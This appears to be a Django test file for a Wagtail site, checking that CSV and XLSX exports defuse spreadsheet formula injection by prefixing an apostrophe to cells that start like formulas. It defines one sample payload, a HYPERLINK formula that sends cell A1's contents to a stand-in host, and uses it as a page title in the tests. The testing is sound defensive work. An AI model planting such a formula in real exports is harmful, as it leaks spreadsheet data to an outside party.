"""Formula injection in exports: text that starts like a formula reaches the spreadsheet as
text, in the project's own exports and in every Wagtail listing export (reports here; the
topics inbox in tests/topics/test_inbox.py; the figures in tests/consultation)."""

import csv
import datetime
import io

from django.contrib.auth import get_user_model
from django.test import TestCase
from openpyxl import load_workbook

from builders import make_committee
from core.spreadsheets import safe_cell
from news.models import NewsIndexPage, NewsKind, NewsPage

ATTACK = '=HYPERLINK("http://example.invalid/?"&A1,"点击")'


class SafeCellTest(TestCase):
    def test_text_starting_like_a_formula_gets_an_apostrophe_and_nothing_else_changes(self):
        for text in (ATTACK, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "\0x"):
            self.assertEqual(safe_cell(text), "'" + text)
        for value in ("政协", "a=b", "", None, -5, 2.5, datetime.date(2024, 1, 1), "'=x"):
            self.assertEqual(safe_cell(value), value)


class WagtailReportExportTest(TestCase):
    """Wagtail's own CSV export writes a cell as it is: a page title becomes a formula."""

    def setUp(self):
        site = make_committee("pingliang", "平凉市政协", level="prefecture", default=True)
        index = NewsIndexPage(title="新闻动态", slug="news")
        site.root_page.add_child(instance=index)
        for n, title in enumerate((ATTACK, "-1", "普通标题"), start=1):
            page = NewsPage(
                title=title, slug=f"n{n}", date=datetime.date(2023, 1, n), kind=NewsKind.WORK_NEWS
            )
            index.add_child(instance=page)
            page.save_revision().publish()
        admin = get_user_model().objects.create_superuser("root", password="x")
        self.client.force_login(admin)

    def export(self, fmt):
        response = self.client.get("/admin/reports/aging-pages/", {"export": fmt})
        self.assertEqual(response.status_code, 200)
        return b"".join(response.streaming_content) if response.streaming else response.content

    def test_csv_report_export_defuses_titles(self):
        rows = list(csv.reader(io.StringIO(self.export("csv").decode("utf-8"))))
        titles = {row[0] for row in rows[1:]}
        self.assertIn("'" + ATTACK, titles)
        self.assertIn("'-1", titles)
        self.assertIn("普通标题", titles)
        self.assertNotIn(ATTACK, titles)

    def test_xlsx_report_export_defuses_titles_and_keeps_dates(self):
        sheet = load_workbook(io.BytesIO(self.export("xlsx"))).active
        rows = list(sheet.iter_rows(min_row=2))
        titles = {row[0].value for row in rows}
        self.assertIn("'" + ATTACK, titles)
        self.assertIn("'-1", titles)
        self.assertTrue(all(row[0].data_type == "s" for row in rows))
        published = [row[2].value for row in rows if row[0].value == "普通标题"]
        self.assertIsInstance(published[0], datetime.datetime)
